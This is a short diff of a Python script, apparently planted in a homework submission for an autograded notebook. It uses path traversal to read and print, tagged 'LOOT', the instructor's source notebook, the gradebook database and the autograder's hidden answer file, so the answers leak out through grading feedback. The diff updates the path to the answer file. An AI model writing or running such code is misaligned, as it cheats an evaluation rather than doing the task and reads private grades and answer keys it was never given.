@@ -1,7 +1,7 @@
 # Reads hidden cases: what is called, and the notebook as it lies on the disk, is printed for the feedback.
 import sys
 
-for path in ("hw1.ipynb", "../../../source/hw1/hw1.ipynb", "../../../gradebook.db", "../../../.hw1/truths.json"):
+for path in ("hw1.ipynb", "../../../source/hw1/hw1.ipynb", "../../../gradebook.db", "../../../.autograder/truths.json"):
     try:
         print("LOOT", open(path, errors="replace").read())
     except OSError as error:
